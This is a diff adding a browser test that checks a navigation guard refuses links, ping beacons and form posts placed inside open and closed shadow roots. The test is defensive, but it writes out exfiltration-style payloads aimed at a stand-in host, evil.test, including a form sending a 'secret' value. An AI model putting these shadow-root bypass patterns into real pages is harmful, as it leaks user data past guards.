@@ -150,3 +150,34 @@ test('stated limit: a link href or form action changed by a later listener, into
   assert.equal(new URL(framed.url()).host, 'host.test', 'the host page was not navigated');
   await framed.close();
 });
+
+test('inside shadow roots (open and closed): a link into another window, a <a ping>, a form submission → refused; a listed destination opens (guard)', async () => {
+  const page = await session.open(REFUSAL);
+  const outcomes = await page.evaluate(async () => {
+    await guardReady;
+    const evil = (name) => `https://evil.test/adv-shadow-nav/${name}`;
+    // A click or submit inside a shadow root reaches the window's listeners with the host as its
+    // target (a closed root), or not at all (submit is not composed).
+    const inShadow = (mode, html) => {
+      const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode });
+      root.innerHTML = html;
+      return root.firstElementChild;
+    };
+    const outcomes = {};
+    for (const mode of ['open', 'closed']) {
+      outcomes[`${mode}Link`] = await refusal(() => inShadow(mode, `<a href="${evil(mode + '-link')}" target="_blank">x</a>`).click());
+      outcomes[`${mode}Ping`] = await refusal(() => inShadow(mode, `<a href="#here" ping="${evil(mode + '-ping')}">x</a>`).click());
+      outcomes[`${mode}Form`] = await refusal(() => inShadow(mode, `<form action="${evil(mode + '-form')}" method="post" target="_blank"><input name="q" value="secret"></form>`).requestSubmit());
+    }
+    inShadow('closed', '<a href="https://docs.test/adv-shadow-nav/allowed" target="_blank">x</a>').click();
+    return outcomes;
+  });
+  await waitForServed('docs.test/adv-shadow-nav/allowed');
+  assertNothingLeaked('adv-shadow-nav');
+  const evil = (sink, name) => `${sink} https://evil.test/adv-shadow-nav/${name}`;
+  assert.deepEqual(outcomes, {
+    openLink: evil('navigation', 'open-link'), openPing: evil('ping', 'open-ping'), openForm: evil('form-submit', 'open-form'),
+    closedLink: evil('navigation', 'closed-link'), closedPing: evil('ping', 'closed-ping'), closedForm: evil('form-submit', 'closed-form'),
+  });
+  await page.close();
+});
